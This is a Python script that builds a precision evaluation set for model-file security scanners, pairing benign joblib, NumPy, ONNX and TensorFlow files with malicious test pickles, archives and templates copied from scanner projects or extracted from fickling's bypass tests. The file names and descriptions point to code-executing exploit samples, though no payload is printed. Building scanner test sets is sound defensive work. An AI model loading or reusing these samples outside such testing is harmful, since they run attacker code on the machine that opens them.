#!/usr/bin/env python3
"""Build the precision evaluation set under /work/precision/{benign,malicious}/ and manifest.json.

Sources are read from fetched mirrors (bare git dirs under /work/.mirror) with `git show`; generated files are
written with Python's pickle module, joblib (from source, PYTHONPATH) and NumPy/SciPy. Nothing here loads or
unpickles any file: malicious pickles are written as opcodes or by pickling objects whose __reduce__ names the
callable, which only records the call.

Usage: PYTHONPATH=/tmp/src/joblib python3 build_set.py   (joblib source: git archive of joblib/joblib)
"""
from __future__ import annotations

import argparse
import base64
import bz2
import collections
import datetime
import decimal
import enum
import fractions
import gzip
import io
import json
import lzma
import os
import pathlib
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import textwrap
import types
import uuid
import zipfile
import zlib

import numpy as np
import scipy.sparse as sp

ROOT = pathlib.Path('/work/precision')
MIRROR = pathlib.Path('/work/.mirror')
HERE = pathlib.Path(__file__).resolve().parent
FAKE_MODULES = HERE / '_fake_modules'

LICENCES = {
    'joblib/joblib': 'BSD-3-Clause',
    'numpy/numpy': 'BSD-3-Clause',
    'onnx/onnx': 'Apache-2.0',
    'tensorflow/serving': 'Apache-2.0',
    'mmaitre314/picklescan': 'MIT',
    'protectai/modelscan': 'Apache-2.0',
    'trailofbits/fickling': 'LGPL-3.0-or-later',
    'promptfoo/modelaudit': 'MIT',
    'chujiezheng/chat_templates': 'MIT',
}

MANIFEST: list[dict] = []
COMMITS: dict[str, str] = {}


def mirror(repo: str) -> pathlib.Path:
    return MIRROR / repo.replace('/', '+') / 'repo'


def head(repo: str) -> str:
    if repo not in COMMITS:
        COMMITS[repo] = subprocess.run(
            ['git', '--git-dir', str(mirror(repo)), 'rev-parse', 'HEAD'], capture_output=True, text=True, check=True
        ).stdout.strip()
    return COMMITS[repo]


def blob(repo: str, path: str, commit: str | None = None) -> bytes:
    return subprocess.run(
        ['git', '--git-dir', str(mirror(repo)), 'show', f'{commit or head(repo)}:{path}'],
        capture_output=True,
        check=True,
    ).stdout


def ls(repo: str, under: str, commit: str | None = None) -> list[str]:
    out = subprocess.run(
        ['git', '--git-dir', str(mirror(repo)), 'ls-tree', '-r', '--name-only', commit or head(repo), under],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    return [line for line in out.splitlines() if line]


def record(kind: str, rel: str, cls: str, reason: str, **extra) -> None:
    entry = {'path': f'{kind}/{rel}', 'kind': kind, 'class': cls, 'reason': reason}
    entry.update({k: v for k, v in extra.items() if v is not None})
    MANIFEST.append(entry)


def write(kind: str, rel: str, data: bytes) -> pathlib.Path:
    p = ROOT / kind / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    return p


def copy_case(kind, group, repo, paths, cls, reason, *, name=None, commit=None, strip=None, rename=None, **extra):
    """Copy one file (a single-file case) or several (a folder case named `name`) from a mirror."""
    commit = commit or head(repo)
    if name is None:
        assert len(paths) == 1
        rel = f'{group}/{(rename or {}).get(paths[0], pathlib.PurePosixPath(paths[0]).name)}'
        write(kind, rel, blob(repo, paths[0], commit))
    else:
        rel = f'{group}/{name}'
        for p in paths:
            sub = (rename or {}).get(p) or (p[len(strip):].lstrip('/') if strip else pathlib.PurePosixPath(p).name)
            write(kind, f'{rel}/{sub}', blob(repo, p, commit))
    record(
        kind,
        rel,
        cls,
        reason,
        source={'repo': repo, 'commit': commit, 'paths': paths, 'licence': LICENCES[repo]},
        **extra,
    )


def generated(kind, rel, data: bytes, cls, reason, **extra):
    write(kind, rel, data)
    record(kind, rel, cls, reason, source={'generated': 'build_set.py'}, **extra)


# ---------------------------------------------------------------------------------------------------------------
# Real-world files from public repositories
# ---------------------------------------------------------------------------------------------------------------


def joblib_testdata():
    repo = 'joblib/joblib'
    files = [p for p in ls(repo, 'joblib/test/data') if not p.endswith(('.py', '.sh'))]
    companions = [p for p in files if '.pkl_0' in p or '.gz_0' in p]
    for p in sorted(set(files) - set(companions)):
        name = pathlib.PurePosixPath(p).name
        mine = sorted(c for c in companions if pathlib.PurePosixPath(c).name.startswith(name + '_'))
        ext = name.rsplit('.', 1)[-1]
        if mine:
            cls = 'joblib-old-format-with-npy' if ext == 'pkl' else 'joblib-old-format-zfile-with-npy-z'
            copy_case('benign', 'joblib-testdata', repo, [p] + mine, cls,
                      'joblib test data: an old-format dump with its companion array files', name=name.replace('.', '_'))
        else:
            cls = {
                'pkl': 'joblib-pickle', 'gz': 'joblib-zfile-or-gzip', 'gzip': 'joblib-gzip', 'bz2': 'joblib-bz2',
                'lzma': 'joblib-lzma', 'xz': 'joblib-xz', 'lz4': 'joblib-lz4',
            }[ext]
            if ext == 'gz':  # joblib wrote three formats under .gz: its ZFile, raw zlib and gzip
                magic = blob(repo, p)[:2]
                cls = 'joblib-zfile' if magic == b'ZF' else 'joblib-gzip' if magic == b'\x1f\x8b' else 'joblib-zlib'
            copy_case('benign', 'joblib-testdata', repo, [p], cls,
                      'joblib test data (test_numpy_pickle compatibility files): plain values and NumPy arrays')


def numpy_testdata():
    repo = 'numpy/numpy'
    for p in ls(repo, 'numpy/lib/tests/data') + ['numpy/_core/tests/data/astype_copy.pkl']:
        if p.endswith(('.npy', '.npz', '.pkl')):
            cls = 'numpy-py2-object-array' if 'py2' in p else 'numpy-object-array' if 'objarr' in p else 'numpy-pickle'
            copy_case('benign', 'numpy-testdata', repo, [p], cls, 'NumPy test data (object arrays saved by Python 2/3)')


ONNX_NODE_COMMIT = '6be0677fc22e74563e6eb472f931513aefe5648d'  # parent of "Remove node test artifacts (#7959)"
ONNX_PICKS = [
    'test_adagrad', 'test_adam_multiple', 'test_ai_onnx_ml_array_feature_extractor', 'test_ai_onnx_ml_binarizer',
    'test_ai_onnx_ml_label_encoder_string_int', 'test_ai_onnx_ml_tree_ensemble_set_membership',
    'test_image_decoder_decode_jpeg_rgb', 'test_string_split_basic', 'test_loop11', 'test_if_seq', 'test_scan9_sum',
    'test_optional_get_element_sequence', 'test_sequence_map_identity_1_sequence', 'test_regex_full_match_basic',
    'test_affine_grid_2d_expanded', 'test_layer_normalization_2d_axis0_expanded_ver18', 'test_castlike_FLOAT_to_STRING',
    'test_gru_defaults', 'test_attention_4d_expanded', 'test_dequantizelinear_float4e2m1',
]


def onnx_testdata(sample: int):
    repo = 'onnx/onnx'
    node = ls(repo, 'onnx/backend/test/data/node', ONNX_NODE_COMMIT)
    dirs = sorted({p.split('/')[5] for p in node})
    step = max(1, len(dirs) // max(1, sample - len(ONNX_PICKS)))
    chosen = [d for d in ONNX_PICKS if d in dirs] + dirs[::step]
    chosen = list(dict.fromkeys(chosen))[:sample]
    for d in chosen:
        base = f'onnx/backend/test/data/node/{d}'
        paths = [p for p in node if p.startswith(base + '/') and '/test_data_set_0/' in p or p == base + '/model.onnx']
        copy_case('benign', 'onnx-node', repo, paths, 'onnx-node-test', 'ONNX backend node test: model.onnx and '
                  'test_data_set_0 tensors', name=d, commit=ONNX_NODE_COMMIT, strip=base)
    for p in ls(repo, 'onnx/backend/test/data/light'):
        if p.endswith('.onnx'):
            copy_case('benign', 'onnx-light', repo, [p], 'onnx-model', 'ONNX light model (real architecture, '
                      'shrunk weights)')
    for group in ('pytorch-converted', 'pytorch-operator', 'simple'):
        files = ls(repo, f'onnx/backend/test/data/{group}')
        ds = sorted({p.split('/')[5] for p in files})
        for d in ds[:: max(1, len(ds) // 4)][:4]:
            base = f'onnx/backend/test/data/{group}/{d}'
            copy_case('benign', f'onnx-{group}', repo, [p for p in files if p.startswith(base + '/')],
                      'onnx-node-test', f'ONNX backend test ({group})', name=d, strip=base)


def tf_serving_testdata():
    repo = 'tensorflow/serving'
    base = 'tensorflow_serving/servables/tensorflow/testdata'
    files = ls(repo, base)
    models = sorted({p.split('/')[4] for p in files if p.split('/')[4].startswith('saved_model_') and p.count('/') > 4})
    for m in models:
        paths = [p for p in files if p.startswith(f'{base}/{m}/')]
        if not any(p.endswith('saved_model.pb') for p in paths):
            continue
        cls = 'tf-savedmodel-with-fingerprint' if any(p.endswith('fingerprint.pb') for p in paths) else 'tf-savedmodel'
        if all(p.endswith('.tflite') for p in paths):
            cls = 'tflite'
        copy_case('benign', 'tf-serving', repo, paths, cls, 'TensorFlow Serving test model (half plus two)',
                  name=m, strip=f'{base}/{m}')
    for m in ('saved_model_half_plus_two_tflite', 'saved_model_half_plus_two_tflite_with_sigdef',
              'parse_example_tflite'):
        paths = [p for p in files if p.startswith(f'{base}/{m}/') and p.endswith('.tflite')]
        for p in paths:
            copy_case('benign', 'tf-serving', repo, [p], 'tflite', 'TensorFlow Serving TFLite test model',
                      rename={p: f'{m}.tflite'})
    b2 = 'tensorflow_serving/batching/testdata/matrix_half_plus_two'
    copy_case('benign', 'tf-serving', repo, ls(repo, b2), 'tf-savedmodel', 'TF Serving batching test SavedModel',
              name='matrix_half_plus_two', strip=b2)


PICKLESCAN_BENIGN = {
    'tests/data/benign0_v0.pkl', 'tests/data/benign0_v3.pkl', 'tests/data/benign0_v4.pkl',
    'tests/data/pytorch_model.bin', 'tests/data/new_pytorch_model.bin', 'tests/data2/int_array.npy',
    'tests/data2/int_arrays.npz', 'tests/data2/int_arrays_compressed.npz', 'tests/data2/object_array.npy',
    'tests/data2/object_arrays.npz', 'tests/data2/object_arrays_compressed.npz',
}
# benign by name but not verifiable by any static scanner: encrypted, or not a model at all
PICKLESCAN_BY_DESIGN = {
    'tests/data/benign_password_protected.zip': 'encrypted zip: its members cannot be read',
    'tests/data/bad_pytorch.pt': 'a PNG header named .pt: not a model',
    'tests/data/not_a_pickle.bin': 'truncated bytes that start like a pickle: not a model',
}


def picklescan_testdata():
    repo = 'mmaitre314/picklescan'
    for p in ls(repo, 'tests'):
        if not p.startswith(('tests/data/', 'tests/data2/')):
            continue
        grp = 'picklescan'
        if p in PICKLESCAN_BENIGN:
            copy_case('benign', grp, repo, [p], 'scanner-benign', 'picklescan test asset expected clean')
        elif p in PICKLESCAN_BY_DESIGN:
            copy_case('benign', grp, repo, [p], 'unverifiable-by-design', PICKLESCAN_BY_DESIGN[p], by_design=True)
        else:
            copy_case('malicious', grp, repo, [p], 'scanner-malicious',
                      'picklescan test asset built to run code (tests/init_data_files.py: malicious*, GHSA-*, '
                      'exploit classes)')


def modelscan_testdata():
    repo = 'protectai/modelscan'
    copy_case('malicious', 'modelscan', repo, ['tests/data/unsafe_zip_pytorch.pt'], 'scanner-malicious',
              'modelscan test asset: PyTorch zip whose pickle runs code')
    copy_case('benign', 'modelscan', repo, ['tests/data/password_protected.zip'], 'unverifiable-by-design',
              'encrypted zip: its members cannot be read', by_design=True)


MODELAUDIT = 'tests/assets'
MODELAUDIT_BENIGN = [
    'samples/archives/safe_model.zip', 'samples/jinja2/benign_template.j2', 'samples/jinja2/standalone/benign_chat.j2',
    'samples/jinja2/standalone/suspicious_benign.template', 'samples/keras/safe_model.h5',
    'samples/pickles/safe_data.pkl', 'samples/pickles/safe_large_model.pkl', 'samples/pickles/safe_model_with_binary.pkl',
    'samples/pickles/safe_model_with_encoding.pkl', 'samples/pickles/safe_model_with_tokens.pkl',
    'samples/pickles/safe_nested_structure.pkl', 'samples/pipeline.skops', 'samples/pytorch/safe_model.pt',
    'samples/safetensors/safe_model.safetensors', 'samples/jinja2/yaml/model_config.yaml',
]
MODELAUDIT_BENIGN_DIRS = [
    'samples/tensorflow/safe_savedmodel', 'scenarios/license_scenarios/mit_model',
    'scenarios/license_scenarios/mixed_licenses', 'scenarios/license_scenarios/unlicensed_dataset',
    'scenarios/license_scenarios/agpl_component',
]
MODELAUDIT_MALICIOUS = [
    *[f'exploits/{n}' for n in (
        'exploit1_basic_torch_bypass.pkl', 'exploit2_advanced_torch_bypass.pkl', 'exploit3_sophisticated_hybrid.pkl',
        'exploit4_supply_chain_attack.pkl', 'exploit5_ultra_high_confidence.pkl', 'exploit6_ordereddict_bypass.pkl',
        'exploit7_nested_collections.pkl', 'exploit9_manual_construction.pkl', 'exploit_ultimate_50pct.pkl')],
    *[f'pickles/{n}' for n in ('memo_attack.pkl', 'multiple_stream_attack.pkl', 'nt_alias_attack.pkl',
                               'posix_alias_attack.pkl', 'stack_global_attack.pkl')],
    *[f'samples/pickles/{n}' for n in (
        'decode_exec_chain.pkl', 'dill_func.pkl', 'evil.pickle', 'malicious_model_realistic.pkl',
        'malicious_system_call.pkl', 'nested_pickle_base64.pkl', 'nested_pickle_hex.pkl',
        'nested_pickle_multistage.pkl', 'nested_pickle_raw.pkl', 'simple_nested.pkl')],
    'samples/archives/path_traversal.zip', 'samples/keras/malicious_lambda.h5', 'samples/pytorch/malicious_eval.pt',
    'samples/jinja2/malicious_subprocess.template', 'samples/jinja2/standalone/malicious_standalone.jinja',
    'samples/jinja2/yaml/malicious_config.yaml',
]
MODELAUDIT_INERT = ['malicious_import', 'multiple_patterns', 'obfuscated_metadata', 'script_injection', 'shell_commands',
                    'suspicious_url']


def modelaudit_testdata():
    repo = 'promptfoo/modelaudit'
    grp = 'modelaudit'
    for p in MODELAUDIT_BENIGN:
        copy_case('benign', grp, repo, [f'{MODELAUDIT}/{p}'], 'scanner-benign', 'modelaudit test asset named safe/benign')
    for d in MODELAUDIT_BENIGN_DIRS:
        paths = ls(repo, f'{MODELAUDIT}/{d}')
        paths = [p for p in paths if not p.endswith('.py')]
        copy_case('benign', grp, repo, paths, 'scanner-benign', 'modelaudit test scenario with no malicious content',
                  name=pathlib.PurePosixPath(d).name, strip=f'{MODELAUDIT}/{d}')
    for p in MODELAUDIT_MALICIOUS:
        copy_case('malicious', grp, repo, [f'{MODELAUDIT}/{p}'], 'scanner-malicious',
                  'modelaudit test asset built as an exploit (runs code, traverses paths or injects a template)')
    copy_case('malicious', grp, repo, [f'{MODELAUDIT}/samples/tensorflow/malicious_pyfunc/saved_model.pb'],
              'scanner-malicious', 'modelaudit SavedModel with a PyFunc operator', name='malicious_pyfunc')
    d = f'{MODELAUDIT}/scenarios/security_scenarios/mixed_malicious_model'
    copy_case('malicious', grp, repo, ls(repo, d), 'scanner-malicious', 'modelaudit scenario: model.pkl runs code',
              name='mixed_malicious_model', strip=d)
    for n in MODELAUDIT_INERT:
        copy_case('malicious', grp, repo, [f'{MODELAUDIT}/samples/safetensors/{n}.safetensors'], 'scanner-malicious',
                  'modelaudit "malicious" safetensors: payload text in __metadata__ (inert: loading a safetensors '
                  'file runs no code)', inert=True)
    # tokenizer configs with chat templates: benign and malicious, each as a folder holding tokenizer_config.json
    base = f'{MODELAUDIT}/samples/jinja2'
    for p in ls(repo, base):
        if not p.endswith('.json'):
            continue
        rel = p[len(base) + 1:]
        if rel.startswith('edge_cases/'):
            continue
        kind = 'benign' if rel.startswith(('benign', 'benign/')) else 'malicious'
        name = 'tok-' + rel.replace('/', '-').removesuffix('.json')
        copy_case(kind, grp, repo, [p], 'chat-template-tokenizer-config' if kind == 'benign' else 'scanner-malicious',
                  f'modelaudit chat template asset ({rel}), placed as tokenizer_config.json', name=name,
                  rename={p: 'tokenizer_config.json'})


def chat_templates():
    repo = 'chujiezheng/chat_templates'
    for p in ls(repo, 'chat_templates'):
        if p.endswith('.jinja'):
            copy_case('benign', 'chat-templates', repo, [p], 'lone-jinja-chat-template',
                      'real chat template of a public model family, a lone *.jinja file')


# ---------------------------------------------------------------------------------------------------------------
# fickling bypasses: every pickle its tests hand to check_safety in TestBypasses, from tests asserting "unsafe"
# ---------------------------------------------------------------------------------------------------------------

FICKLING_NOT_MALICIOUS = {'test_safe_builtins_not_flagged', 'test_safe_builtin_dict_not_flagged',
                          'test_private_stdlib_allowlist', 'test_well_formed_frames_are_not_flagged'}


def fickling_bypasses(test_file: pathlib.Path):
    """Run TestBypasses with check_safety replaced by a recorder and assertions switched off: the test bodies
    only assemble opcodes (fickling's Pickled) and never unpickle."""
    from unittest import mock

    sys.path.insert(0, '/tmp/src/fickling')
    from fickling.fickle import Pickled

    raw_of: dict[int, bytes] = {}
    orig_load = Pickled.load

    def load(data, *a, **k):
        obj = orig_load(data, *a, **k)
        if isinstance(data, (bytes, bytearray)):
            raw_of[id(obj)] = bytes(data)
        return obj

    Pickled.load = staticmethod(load)
    ns: dict = {'__name__': 'fickling_test_bypasses'}
    exec(compile(test_file.read_text(), str(test_file), 'exec'), ns)
    seen: list[tuple[str, bytes]] = []
    current = ['']

    def check_safety(pickled, *a, **k):
        seen.append((current[0], raw_of.get(id(pickled)) or pickled.dumps()))
        return mock.MagicMock()

    ns['check_safety'] = check_safety
    tc = ns['TestBypasses']
    for name in sorted(n for n in dir(tc) if n.startswith('test_')):
        if name in FICKLING_NOT_MALICIOUS:
            continue
        current[0] = name
        t = tc(name)
        for a in dir(t):
            if a.startswith('assert'):
                setattr(t, a, lambda *x, **y: None)
        try:
            getattr(t, name)()
        except Exception as e:  # noqa: BLE001
            print('fickling', name, 'raised', type(e).__name__, e, file=sys.stderr)
    Pickled.load = staticmethod(orig_load)
    repo = 'trailofbits/fickling'
    idx: collections.Counter = collections.Counter()
    kept = [(n, d) for n, d in seen if n == 'test_frame_boundary_divergence' or calls_something(d)]
    print('fickling: kept', len(kept), 'of', len(seen), 'recorded pickles (dropped: no call or not a valid stream)',
          file=sys.stderr)
    counts = collections.Counter(n for n, _ in kept)
    for name, data in kept:
        idx[name] += 1
        fn = f'{name.removeprefix("test_")}{"" if counts[name] == 1 else "_" + str(idx[name])}.pkl'
        write('malicious', f'fickling/{fn}', data)
        record('malicious', f'fickling/{fn}', 'scanner-malicious',
               f'fickling test/test_bypasses.py::{name}: a bypass pickle the test asserts is unsafe',
               source={'repo': repo, 'commit': head(repo), 'paths': ['test/test_bypasses.py'],
                       'licence': LICENCES[repo], 'extracted': 'the pickle handed to check_safety'})


def calls_something(data: bytes) -> bool:
    """A well-formed stream that calls something (REDUCE, OBJ, INST, NEWOBJ): statically, by opcodes."""
    import pickletools

    try:
        names = [op.name for op, _, _ in pickletools.genops(data)]
    except Exception:  # noqa: BLE001
        return False
    return names[-1] == 'STOP' and any(n in ('REDUCE', 'OBJ', 'INST') for n in names)


# ---------------------------------------------------------------------------------------------------------------
# Generated benign files
# ---------------------------------------------------------------------------------------------------------------


def fake_modules():
    """Stand-in modules so that pickle writes the same imports real torch / transformers files hold."""
    files = {
        'torch/__init__.py': textwrap.dedent('''
            class _Storage:
                def __init__(self, data, key):
                    self.data, self.key = data, key
            class FloatStorage(_Storage): pass
            class LongStorage(_Storage): pass
            class HalfStorage(_Storage): pass
            class FloatTensor: pass
            class LongTensor: pass
            '''),
        'torch/_utils.py': 'def _rebuild_tensor_v2(*a):\n    raise RuntimeError("stand-in")\n',
        'transformers/__init__.py': '',
        'transformers/trainer_utils.py': textwrap.dedent('''
            import enum
            class IntervalStrategy(enum.Enum):
                NO = "no"; STEPS = "steps"; EPOCH = "epoch"
            class SaveStrategy(enum.Enum):
                NO = "no"; STEPS = "steps"; EPOCH = "epoch"; BEST = "best"
            class HubStrategy(enum.Enum):
                END = "end"; EVERY_SAVE = "every_save"; CHECKPOINT = "checkpoint"; ALL_CHECKPOINTS = "all_checkpoints"
            class SchedulerType(enum.Enum):
                LINEAR = "linear"; COSINE = "cosine"
            '''),
        'transformers/training_args.py': textwrap.dedent('''
            import enum
            from dataclasses import dataclass, field
            class OptimizerNames(enum.Enum):
                ADAMW_TORCH = "adamw_torch"; ADAFACTOR = "adafactor"
            @dataclass
            class TrainingArguments:
                output_dir: str = "out"
                learning_rate: float = 5e-5
                num_train_epochs: float = 3.0
                per_device_train_batch_size: int = 8
                eval_strategy: object = None
                save_strategy: object = None
                hub_strategy: object = None
                lr_scheduler_type: object = None
                optim: object = None
                logging_dir: str = "out/runs"
                report_to: list = field(default_factory=lambda: ["tensorboard"])
                fsdp_config: dict = field(default_factory=dict)
                seed: int = 42
            '''),
    }
    for rel, text in files.items():
        p = FAKE_MODULES / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
    sys.path.insert(0, str(FAKE_MODULES))


def torch_state_dict_pickle(tensors: dict[str, np.ndarray], protocol=2):
    """data.pkl of torch.save's zip format: OrderedDict of _rebuild_tensor_v2 with persistent storage ids."""
    import torch  # the stand-in
    import torch._utils

    class Tensor:
        def __init__(self, storage, arr):
            self.storage, self.arr = storage, arr

        def __reduce_ex__(self, proto):
            a = self.arr
            stride = tuple(s // a.itemsize for s in a.strides)
            return (torch._utils._rebuild_tensor_v2,
                    (self.storage, 0, a.shape, stride, False, collections.OrderedDict()))

    class P(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, torch._Storage):
                return ('storage', type(obj), obj.key, 'cpu', obj.data.size)
            return None

    storages = {}
    od = collections.OrderedDict()
    for i, (k, a) in enumerate(tensors.items()):
        st = (torch.FloatStorage if a.dtype == np.float32 else torch.LongStorage)(a, str(i))
        storages[str(i)] = a
        od[k] = Tensor(st, a)
    buf = io.BytesIO()
    P(buf, protocol=protocol).dump(od)
    return buf.getvalue(), storages


def torch_zip(name: str, data_pkl: bytes, storages: dict[str, np.ndarray]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_STORED) as z:
        z.writestr(f'{name}/data.pkl', data_pkl)
        z.writestr(f'{name}/byteorder', 'little')
        for k, a in storages.items():
            z.writestr(f'{name}/data/{k}', a.tobytes())
        z.writestr(f'{name}/version', '3\n')
        z.writestr(f'{name}/.data/serialization_id', '1234567890123456789012345678901234567890')
    return buf.getvalue()


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def torch_legacy(obj_pickle: bytes, storages: dict[str, np.ndarray], sys_info: bytes | None = None) -> bytes:
    """torch.save's pre-1.6 stream: magic, protocol version, sys_info, the object, storage keys, raw storages."""
    out = io.BytesIO()
    pickle.dump(LEGACY_MAGIC, out, protocol=2)
    pickle.dump(1001, out, protocol=2)
    out.write(sys_info or pickle.dumps({'protocol_version': 1001, 'little_endian': True,
                                        'type_sizes': {'short': 2, 'int': 4, 'long': 4}}, protocol=2))
    out.write(obj_pickle)
    pickle.dump(sorted(storages), out, protocol=2)
    for k in sorted(storages):
        a = storages[k]
        out.write(struct.pack('<q', a.size))
        out.write(a.tobytes())
    return out.getvalue()


def torch_legacy_state_dict_pickle(tensors: dict[str, np.ndarray]):
    """The object pickle of the legacy stream: persistent ids (typename, type, key, location, size, view)."""
    import torch
    import torch._utils

    class Tensor:
        def __init__(self, storage, arr):
            self.storage, self.arr = storage, arr

        def __reduce_ex__(self, proto):
            a = self.arr
            stride = tuple(s // a.itemsize for s in a.strides)
            return (torch._utils._rebuild_tensor_v2,
                    (self.storage, 0, a.shape, stride, False, collections.OrderedDict()))

    class P(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, torch._Storage):
                return ('storage', type(obj), obj.key, 'cpu', obj.data.size, None)
            return None

    storages, od = {}, collections.OrderedDict()
    for i, (k, a) in enumerate(tensors.items()):
        key = str(94000000 + i)
        storages[key] = a
        od[k] = Tensor(torch.FloatStorage(a, key), a)
    buf = io.BytesIO()
    P(buf, protocol=2).dump(od)
    return buf.getvalue(), storages


def torch_tar(obj_pickle: bytes, tensors: dict[str, np.ndarray]) -> bytes:
    """torch.save's oldest (0.1.x) tar format: sys_info, pickle, storages, tensors."""
    import torch

    st = io.BytesIO()
    pickle.dump(len(tensors), st, protocol=2)
    for i, a in enumerate(tensors.values()):
        pickle.dump((str(i), 'cpu', torch.FloatStorage), st, protocol=2)
        st.write(struct.pack('<q', a.size))
        st.write(a.astype(np.float32).tobytes())
    te = io.BytesIO()
    pickle.dump(len(tensors), te, protocol=2)
    for i, a in enumerate(tensors.values()):
        pickle.dump((str(100 + i), str(i), torch.FloatTensor), te, protocol=2)
        te.write(struct.pack('<i', a.ndim) + b'\0' * 4)
        te.write(struct.pack(f'<{a.ndim}q', *a.shape))
        te.write(struct.pack(f'<{a.ndim}q', *(s // a.itemsize for s in a.strides)))
        te.write(struct.pack('<q', 0))
    members = {
        'sys_info': pickle.dumps({'protocol_version': 1000, 'little_endian': True,
                                  'type_sizes': {'short': 2, 'int': 4, 'long': 8}}, protocol=2),
        'pickle': obj_pickle,
        'storages': st.getvalue(),
        'tensors': te.getvalue(),
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=tarfile.PAX_FORMAT) as tar:
        for n, d in members.items():
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            ti.mtime = 1500000000
            tar.addfile(ti, io.BytesIO(d))
    return buf.getvalue()


def tar_object_pickle(keys: list[str]) -> bytes:
    """The tar format's object pickle: tensors are persistent ids naming the tensor keys."""

    class Ref:
        def __init__(self, k):
            self.k = k

    class P(pickle.Pickler):
        def persistent_id(self, obj):
            return obj.k if isinstance(obj, Ref) else None

    buf = io.BytesIO()
    P(buf, protocol=2).dump(collections.OrderedDict((k, Ref(str(100 + i))) for i, k in enumerate(keys)))
    return buf.getvalue()


def training_args(protocol=2) -> bytes:
    from transformers.trainer_utils import HubStrategy, IntervalStrategy, SaveStrategy, SchedulerType
    from transformers.training_args import OptimizerNames, TrainingArguments

    ta = TrainingArguments(eval_strategy=IntervalStrategy.STEPS, save_strategy=SaveStrategy.EPOCH,
                           hub_strategy=HubStrategy.EVERY_SAVE, lr_scheduler_type=SchedulerType.COSINE,
                           optim=OptimizerNames.ADAMW_TORCH, fsdp_config={'min_num_params': 0, 'xla': False})
    return pickle.dumps(ta, protocol=protocol)


def stdlib_values() -> dict[str, object]:
    import argparse

    return {
        'datetime': datetime.datetime(2024, 5, 17, 12, 30, 1, 123456),
        'datetime_tz': datetime.datetime(2024, 5, 17, 12, 30, tzinfo=datetime.timezone(datetime.timedelta(hours=2))),
        'date': datetime.date(2024, 5, 17),
        'time': datetime.time(12, 30),
        'timedelta': datetime.timedelta(days=1, seconds=5),
        'argparse_namespace': argparse.Namespace(lr=0.001, epochs=10, model='resnet50', tags=['a', 'b']),
        'simple_namespace': types.SimpleNamespace(lr=0.001, layers=[64, 64], name='mlp'),
        'decimal': decimal.Decimal('3.14159265358979323846'),
        'ordered_dict': collections.OrderedDict([('b', 1), ('a', 2)]),
        'defaultdict': collections.defaultdict(list, {'x': [1, 2]}),
        'counter': collections.Counter('abracadabra'),
        'deque': collections.deque([1, 2, 3], maxlen=5),
        'fraction': fractions.Fraction(3, 7),
        'complex': complex(1.5, -2.0),
        'set_frozenset': {'s': {1, 2, 3}, 'f': frozenset({'a', 'b'})},
        'bytes_bytearray': {'b': b'\x00\x01raw', 'ba': bytearray(b'abc')},
        'range_slice': {'r': range(0, 10, 2), 's': slice(1, 5, None)},
        'uuid': uuid.UUID('12345678-1234-5678-1234-567812345678'),
        'pure_path': pathlib.PurePosixPath('/data/train.csv'),
    }


def benign_generated(big: bool):
    import joblib

    rng = np.random.default_rng(0)
    arrays = {
        'weights': rng.standard_normal((64, 32)).astype(np.float32), 'bias': np.zeros(32, dtype=np.float64),
        'ids': np.arange(100, dtype=np.int64), 'mask': rng.random(50) > 0.5, 'i8': np.arange(-5, 5, dtype=np.int8),
        'c': np.array([1 + 2j, 3 - 1j]), 'labels': np.array(['cat', 'dog', 'bird']),
        'rec': np.array([(1.0, 2), (3.0, 4)], dtype=[('x', 'f4'), ('y', 'i4')]),
        'f16': np.ones((4, 4), dtype=np.float16), 'fortran': np.asfortranarray(rng.random((8, 3))),
        'dt64': np.array(['2024-01-01', '2024-06-30'], dtype='datetime64[D]'),
    }
    objarr = np.empty(6, dtype=object)
    objarr[:] = [1, 'text', None, (1, 2), {'k': [1, 2]}, np.arange(3)]
    m = sp.random(50, 40, density=0.1, random_state=0, format='csr', dtype=np.float64)
    sparse = {'csr': m, 'csc': m.tocsc(), 'coo': m.tocoo(), 'csr_array': sp.csr_array(m), 'lil': m.tolil(),
              'dok': m.todok(), 'bsr': m.tobsr(), 'dia': sp.diags([1.0, 2.0, 3.0], 0, format='dia')}
    values = stdlib_values()
    mixed = {'params': {'C': 1.0, 'penalty': 'l2'}, 'coef_': rng.random((3, 10)), 'classes_': np.array([0, 1, 2]),
             'feature_names_in_': np.array(['f%d' % i for i in range(10)], dtype=object), 'n_iter_': np.int32(12),
             'history': [0.5, 0.3, 0.2], 'trained_at': datetime.datetime(2024, 1, 2)}
    objects = {'arrays': arrays, 'object_array': objarr, 'sparse': sparse, 'stdlib_values': values, 'estimator_like': mixed}
    grp = 'joblib-generated'
    for oname, obj in objects.items():
        for method in (None, 'zlib', 'gzip', 'bz2', 'lzma', 'xz'):
            suffix = '' if method is None else f'.{method}'
            rel = f'{grp}/{oname}.joblib{suffix}'
            p = ROOT / 'benign' / rel
            p.parent.mkdir(parents=True, exist_ok=True)
            joblib.dump(obj, p, compress=(method, 3) if method else 0)
            cls = 'joblib-numpy-inline' if method is None else f'joblib-{method}'
            record('benign', rel, cls, f'joblib.dump of {oname} ({method or "uncompressed"}) with joblib '
                   f'{joblib.__version__}, NumPy {np.__version__}', source={'generated': 'build_set.py'})
    for proto in range(6):
        rel = f'{grp}/arrays_protocol{proto}.joblib'
        p = ROOT / 'benign' / rel
        joblib.dump(arrays, p, protocol=proto)
        record('benign', rel, 'joblib-numpy-inline', f'joblib.dump of arrays with pickle protocol {proto}',
               source={'generated': 'build_set.py'})
    for proto in (2, 5):
        rel = f'{grp}/object_array_protocol{proto}.joblib.gz'
        joblib.dump(objarr, ROOT / 'benign' / rel, compress=('gzip', 6), protocol=proto)
        record('benign', rel, 'joblib-gzip', f'joblib.dump of an object array, gzip, protocol {proto}',
               source={'generated': 'build_set.py'})
    for ext in ('z', 'gz', 'bz2', 'xz', 'lzma'):
        rel = f'{grp}/by_extension.pkl.{ext}'
        joblib.dump(mixed, ROOT / 'benign' / rel)
        record('benign', rel, f'joblib-ext-{ext}', f'joblib.dump to a .{ext} name (compression chosen by extension)',
               source={'generated': 'build_set.py'})
    rel = f'{grp}/big_array.joblib'
